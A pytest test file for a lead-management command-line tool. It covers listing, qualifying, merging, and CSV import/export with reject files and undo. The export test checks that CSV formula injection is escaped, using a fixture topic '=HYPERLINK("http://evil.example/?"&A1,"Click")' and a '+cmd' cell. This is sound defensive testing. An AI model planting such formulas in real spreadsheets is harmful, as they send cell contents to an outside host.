"""The scriptable command line, run as a script would: `leadq` in a subprocess, its
JSON parsed, its exit status checked (docs/cli.md)."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

import models

from ..conftest import make_lead

CORPUS = Path(__file__).resolve().parents[1] / "csv"


@pytest.fixture
def cli_db(tmp_path: Path):
    url = f"sqlite:///{tmp_path / 'cli.db'}"
    models.open_database(url)
    admin = models.create_user("ada", "Ada Admin", models.Role.SYSTEM_ADMINISTRATOR)
    models.create_user("riley", "Riley Rep", models.Role.SALESPERSON)
    make_lead(admin)
    make_lead(admin, email="other@fabrikam.com", company="Fabrikam", last_name="Other")
    models.close_database()
    return url


def leadq(url: str, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess:
    env = {**os.environ, "LEADQ_DB": url, "LEADQ_USER": "ada"}
    return subprocess.run(
        [sys.executable, "-m", "tui", *args],
        capture_output=True,
        text=True,
        env=env,
        input=stdin,
        timeout=120,
    )


def test_list_show_and_json_errors(cli_db) -> None:
    listed = leadq(cli_db, "leads", "list", "--json")
    assert listed.returncode == 0, listed.stderr
    rows = json.loads(listed.stdout)
    assert [r["last_name"] for r in rows] == ["Other", "Anderson"]
    assert set(rows[0]) == {
        "id",
        "topic",
        "first_name",
        "last_name",
        "company",
        "email",
        "state",
        "status_reason",
        "rating",
        "owner",
        "created_at",
    }
    shown = leadq(cli_db, "lead", "show", "1", "--json")
    lead = json.loads(shown.stdout)
    assert lead["fields"]["email"] == "nancy@contoso.com" and lead["state"] == "open"
    assert lead["history"][0]["what"].startswith("Created lead")
    missing = leadq(cli_db, "lead", "show", "99", "--json")
    assert missing.returncode == 1
    assert json.loads(missing.stdout)["error"]["type"] == "NotFound"
    bad_view = leadq(cli_db, "leads", "list", "--view", "nope", "--json")
    assert bad_view.returncode == 1 and "no view" in json.loads(bad_view.stdout)["error"]["message"]
    usage = leadq(cli_db, "lead", "show", "x")
    assert usage.returncode == 2
    assert usage.stdout == "" and "invalid int value: 'x'" in usage.stderr
    usage = leadq(cli_db, "qualify", "1", "x", "--json")  # a script asked for JSON: JSON
    assert (usage.returncode, usage.stderr) == (2, "")
    assert json.loads(usage.stdout)["error"] == {
        "type": "UsageError",
        "message": "leadq qualify: argument ID: invalid int value: 'x' (see leadq qualify --help)",
        "exit_status": 2,
    }


def test_qualify_and_disqualify_through_the_services_and_roles(cli_db) -> None:
    qualified = leadq(cli_db, "qualify", "1", "99", "--json")
    assert qualified.returncode == 5  # done in part
    first, second = json.loads(qualified.stdout)
    assert first["status"] == "qualified" and first["account_created"] is True
    assert first["opportunity_id"] is not None
    assert second == {**second, "lead_id": 99, "status": "failed"}
    again = leadq(cli_db, "qualify", "1", "--json")
    assert again.returncode == 1 and json.loads(again.stdout)[0]["status"] == "failed"
    refused = leadq(cli_db, "disqualify", "1", "--reason", "lost")
    assert refused.returncode == 1 and "was qualified by Ada Admin" in refused.stderr
    done = leadq(cli_db, "disqualify", "2", "--reason", "cannot contact", "--json")
    assert done.returncode == 0, done.stdout
    assert json.loads(done.stdout)["status_reason"] == "cannot_contact"
    bad = leadq(cli_db, "disqualify", "2", "--reason", "bored", "--json")
    assert json.loads(bad.stdout)["error"]["fields"] == {"reason": bad_reason_message()}


def test_merge_mirrors_the_merge_screen(cli_db) -> None:
    models.open_database(cli_db)
    ada = models.find_user("ada")
    contoso = models.create_account(ada, name="Contoso", ignore_duplicates=True)
    fabrikam = models.create_account(ada, name="Fabrikam", city="Paris", ignore_duplicates=True)
    first = models.create_contact(ada, last_name="Lee", account=contoso.id, ignore_duplicates=True)
    second = models.create_contact(
        ada, last_name="Lee", account=fabrikam.id, email="lee@f.com", ignore_duplicates=True
    )
    models.close_database()
    a, f, c1, c2 = (str(r.id) for r in (contoso, fabrikam, first, second))
    shown = leadq(cli_db, "merge", "account", a, f, "--show", "--json")
    assert shown.returncode == 0, shown.stdout
    fields = {x["name"]: x for x in json.loads(shown.stdout)["fields"]}
    assert fields["city"]["texts"] == {a: "", f: "Paris"} and fields["city"]["default"] == int(f)
    refused = leadq(cli_db, "--user", "riley", "merge", "account", a, f, "--json")
    assert refused.returncode == 1
    assert "merge into the account" in json.loads(refused.stdout)["error"]["message"]
    parents = leadq(cli_db, "merge", "contact", c1, c2)
    assert parents.returncode == 1 and "parent check is on" in parents.stderr
    bad = leadq(cli_db, "merge", "contact", c1, c2, "--take", "account")
    assert bad.returncode == 2 and "write FIELD=ID" in bad.stderr
    merged = leadq(cli_db, "merge", "contact", c1, c2, "--no-parent-check", "--take",
                   f"account={c2}", "--json")  # fmt: skip
    assert merged.returncode == 0, merged.stdout
    assert json.loads(merged.stdout) == {
        "kind": "contact",
        "master_id": int(c1),
        "name": "Lee",
        "merged_ids": [int(c2)],
        "taken": ["email", "account"],
    }
    models.open_database(cli_db)
    try:
        master = models.Contact.get_by_id(first.id)
        assert (master.account_id, master.email) == (fabrikam.id, "lee@f.com")
        assert models.Contact.get_by_id(second.id).merged_into_id == first.id
    finally:
        models.close_database()


def bad_reason_message() -> str:
    return "Choose a reason: Lost, Cannot contact, No longer interested, Canceled."


def test_import_with_reject_file_undo_and_export_round_trip(cli_db, tmp_path) -> None:
    source = tmp_path / "in.csv"
    source.write_bytes((CORPUS / "formulas.csv").read_bytes() + b"T,No,,x@example.com,,\n")
    dry = leadq(cli_db, "import", str(source), "--dry-run", "--json")
    assert dry.returncode == 5 and json.loads(dry.stdout)["batch_id"] is None
    done = leadq(cli_db, "import", str(source), "--json")
    assert done.returncode == 5  # a row was rejected
    summary = json.loads(done.stdout)
    assert (summary["created"], summary["rejected"]) == (2, 1)
    with open(summary["reject_file"], encoding="utf-8", newline="") as handle:
        rejects = list(csv.reader(handle))
    assert rejects[1][-1] == "rejected (line 5): Last name is required."

    exported = tmp_path / "out.csv"
    result = leadq(cli_db, "export", "--search", "Mallory", "-o", str(exported))
    assert result.returncode == 0 and "Exported 1 lead(s)" in result.stderr
    text = exported.read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and "'+cmd" in text

    undone = leadq(cli_db, "import", "--undo", str(summary["batch_id"]), "--json")
    assert json.loads(undone.stdout)["removed"] == 2
    again = leadq(cli_db, "import", str(exported), "--on-duplicate", "create", "--json")
    assert json.loads(again.stdout)["created"] == 1
    shown = json.loads(leadq(cli_db, "leads", "list", "--search", "Mallory", "--json").stdout)
    assert shown[0]["topic"] == '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_import_refusals_change_nothing(cli_db, tmp_path) -> None:
    missing = leadq(cli_db, "import", str(tmp_path / "none.csv"), "--json")
    assert (
        missing.returncode == 1 and "Cannot read" in json.loads(missing.stdout)["error"]["message"]
    )
    sf = leadq(cli_db, "import", str(CORPUS / "salesforce.csv"), "--json")
    error = json.loads(sf.stdout)["error"]
    assert sf.returncode == 1 and "No column maps to Topic" in error["message"]
    assert "map a column to it (columns: " in error["message"]
    assert error["message"].endswith(' (--map "COLUMN=field").')  # the command line's way
    mapped = leadq(
        cli_db, "import", "-", "--map", "Description=topic", "--json",
        stdin=(CORPUS / "salesforce.csv").read_text(),
    )  # fmt: skip
    assert mapped.returncode == 0, mapped.stdout
    assert json.loads(mapped.stdout)["created"] == 1
    rep_undo = subprocess.run(
        [sys.executable, "-m", "tui", "--user", "riley", "import", "--undo", "1"],
        capture_output=True,
        text=True,
        env={**os.environ, "LEADQ_DB": cli_db},
        timeout=120,
    )
    assert rep_undo.returncode == 1 and "Only the user who ran import" in rep_undo.stderr
